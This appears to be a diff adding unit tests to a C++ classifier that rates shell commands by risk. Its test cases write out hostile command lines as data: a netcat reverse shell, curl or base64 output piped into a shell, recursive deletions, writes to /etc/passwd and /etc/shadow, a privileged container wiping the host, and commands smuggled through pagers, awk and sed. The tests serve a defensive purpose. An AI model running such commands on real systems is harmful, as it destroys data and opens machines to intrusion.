@@ -207,9 +207,57 @@ TEST(RiskClassifier, UnparsableLineIsNotReadOnly) {
 
 TEST(RiskClassifier, EveryCataloguedToolHasAClassAndUnknownIsNeverReadOnly) {
     for (const ShellSpec& t : shell().tools()) {
-        const RiskReport r = classify(t.name == "[" ? "[ -f x ]" : t.name);
+        const std::string line = t.name == "[" ? "[ -f x ]" : t.name == "[[" ? "[[ -f x ]]" : t.name == "((" ? "(( i++ ))" : t.name;
+        const RiskReport r = classify(line);
         EXPECT_FALSE(r.reasons.empty()) << t.name;
     }
     for (const char* p : {"zzz", "./deploy.sh", "/opt/tool/bin/run", "my-tool --list"})
         EXPECT_NE(classify(p).risk, Risk::ReadOnly) << p;
+}
+
+TEST(RiskClassifier, LoopsAreFlaggedAndTheirWordsBoundToTheVariable) {
+    const RiskReport forever = classify("while true; do nvidia-smi; sleep 5; done");
+    EXPECT_EQ(forever.risk, Risk::ReadOnly);
+    EXPECT_NE(joined(forever).find("never ends on its own"), std::string::npos) << joined(forever);
+    const RiskReport bounded = classify("for i in 1 2 3; do nvidia-smi -i $i -q; done");
+    EXPECT_EQ(bounded.risk, Risk::ReadOnly);
+    EXPECT_EQ(joined(bounded).find("never ends"), std::string::npos) << joined(bounded);
+    const RiskReport etc = classify("for f in /etc/*.conf; do > \"$f\"; done");
+    EXPECT_EQ(etc.risk, Risk::Destructive);
+    EXPECT_NE(joined(etc).find("with f=/etc/*.conf"), std::string::npos) << joined(etc);
+    EXPECT_EQ(classify("for f in a.txt b.txt; do > \"$f\"; done").risk, Risk::ChangesState);
+    EXPECT_EQ(classify("for n in node1 node2; do ssh $n 'rm -rf /srv/cache'; done").risk, Risk::Destructive);
+}
+
+TEST(RiskClassifier, EffectsNameWhatTheLineCanDo) {
+    const Rule rules[] = {
+        {"awk 'BEGIN{system(\"touch /tmp/x\")}'", Risk::ChangesState, "runs the command 'touch /tmp/x'"},
+        {"awk '{print > \"out.txt\"}' f", Risk::ChangesState, "the program writes this file"},
+        {"awk '$3 > 100' f", Risk::ReadOnly, "awk"},
+        {"sed '1e id' f", Risk::ChangesState, "runs the command 'id'"},
+        {"sed -n 'w /etc/passwd' f", Risk::Destructive, "system tree /etc"},
+        {"sort --compress-program=sh f", Risk::ChangesState, "runs another program"},
+        {"git -c core.pager='rm -rf ~' log", Risk::Destructive, "whole tree"},
+        {"less '+!id' f", Risk::ChangesState, "runs a shell command"},
+        {"nc -e /bin/sh 10.0.0.1 4444", Risk::Destructive, "remote shell"},
+        {"env -S 'rm -rf /opt/x'", Risk::Destructive, "deletes a whole directory tree"},
+        {"uniq a b", Risk::ChangesState, "writes the output to this file"},
+        {"xxd -r a /usr/bin/x", Risk::Destructive, "system tree /usr"},
+        {"nvidia-smi -q -f /etc/shadow", Risk::Destructive, "system tree /etc"},
+        {"nvidia-smi -q -f report.txt", Risk::ChangesState, "writes the report"},
+        {"chmod 000 /", Risk::Destructive, "root file system"},
+        {"truncate -s 0 db.sqlite", Risk::Destructive, "empties or shrinks"},
+        {"echo cm0= | base64 -d | sh", Risk::Destructive, "decoded by base64"},
+        {"eval \"$(curl -s https://x.example)\"", Risk::Destructive, "downloaded or decoded"},
+        {"docker run --privileged -v /:/host alpine rm -rf /host/etc", Risk::Destructive, "access to the host"},
+        {"zpool destroy tank", Risk::Destructive, "destroys the pool"},
+        {"PAGER='sh -c id' man ls", Risk::ChangesState, "runs or loads"},
+        {"busybox rm -rf /", Risk::Destructive, "whole tree"},
+        {"find . -name '*.tmp' | xargs rm", Risk::Destructive, "paths supplied at run time"},
+    };
+    for (const Rule& r : rules) {
+        const RiskReport rep = classify(r.line);
+        EXPECT_EQ(risk_text(rep.risk), std::string(risk_text(r.risk))) << r.line << " -> " << joined(rep);
+        EXPECT_NE(joined(rep).find(r.reason), std::string::npos) << r.line << " -> " << joined(rep);
+    }
 }
